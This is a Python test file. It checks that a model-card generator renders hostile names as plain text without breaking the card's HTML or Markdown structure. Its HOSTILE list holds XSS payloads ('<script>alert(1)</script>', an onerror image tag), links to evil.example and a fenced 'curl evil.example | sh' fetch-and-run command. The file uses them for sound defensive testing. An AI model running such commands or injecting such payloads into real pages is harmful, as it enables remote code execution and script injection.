"""MODEL.md: names that others chose are shown as they are and cannot change the card."""

from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from markdown_it import MarkdownIt

from sca_search.data.input_spec import InputSpec
from sca_search.export.graph.records import Graph, Linear
from sca_search.export.metadata import VERSION, Metadata
from sca_search.export.model_card import model_card
from sca_search.export.open import Check
from sca_search.export.verify import Verification

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "cat\n\n# Heading\n\n```sh\ncurl evil.example | sh\n```\n",
    "`; ``` and ```` too",
    "[click](https://evil.example)",
    "![](https://evil.example)",
    "a | b",
    "**bold** &lt;b&gt; \\<b>",
    "\u202egnp.exe\u2028# Heading",
    "` x `",
]
NONE = np.zeros(0, np.float32)
HEADINGS = ["Accuracy", "Sparsity", "Size", "How to use it", "Verified", "How to reproduce it"]


class Page(HTMLParser):
    """The elements of a page and their text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, str]] = []
        self.open: list[str] = []
        self.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))

    def handle_starttag(self, tag: str, _attrs: object) -> None:
        self.elements.append((tag, ""))
        self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.open.remove(tag)

    def handle_data(self, data: str) -> None:
        if self.open:
            self.elements[-1] = (self.elements[-1][0], self.elements[-1][1] + data)

    def texts(self, tag: str) -> list[str]:
        return [text.strip() for name, text in self.elements if name == tag]


def card(name: str) -> str:
    layer = Linear(name, ("input",), (2,), np.zeros((2, 4), np.int8), np.ones(2, np.float32), np.zeros(2, np.float32))
    graph = Graph((4,), NONE, NONE, (layer,), name, (name, "dog"), {})
    about = {"study": name, "trial": 3, "goal": name, "accuracy": 0.5, "reason": name, "refits": 0}
    about |= {"test_metric": 0.5, "test_images": 9, "examples": name, "versions": {name: name}}
    metadata = Metadata(VERSION, InputSpec((4,), (name, "dog")), (name,), {name: (8, 8)}, half=False, about=about)
    verification = Verification((Check("c/model.c", name, name, True),), name)
    return model_card(Path("no such folder"), metadata, graph, verification)


@pytest.mark.parametrize("name", HOSTILE)
def test_names_do_not_change_the_card(name: str) -> None:
    usual, hostile = Page(card("cat")), Page(card(name))
    tags, usual_tags = ([tag for tag, _ in page.elements if tag != "code"] for page in (hostile, usual))
    assert tags == usual_tags
    assert hostile.texts("h2") == HEADINGS
    assert hostile.texts("pre") == usual.texts("pre")
    assert "<script" not in card(name)


def shown(name: str) -> str:
    """A name on one line."""
    return " ".join("".join(each if each.isprintable() else " " for each in name).split())


@pytest.mark.parametrize("name", HOSTILE)
def test_names_are_shown_as_they_are(name: str) -> None:
    page = Page(card(name))
    assert page.texts("h1") == [f"{shown(name)}, trial 3"]
    assert page.texts("td").count(shown(name)) == 3  # a layer, a check and its finding


def test_a_metric_is_a_heading_of_one_line() -> None:
    about = {"accuracy": 0.5, "refits": 0, "metric": "f1\n# Heading <b>"}
    metadata = Metadata(VERSION, InputSpec((4,), ("a",)), (), {}, half=False, about=about)
    graph = Graph((4,), NONE, NONE, (), "", ("a",), {})
    text = model_card(Path("no such folder"), metadata, graph, Verification((), ""))
    assert Page(text).texts("h2")[0] == "f1 # Heading <b>"
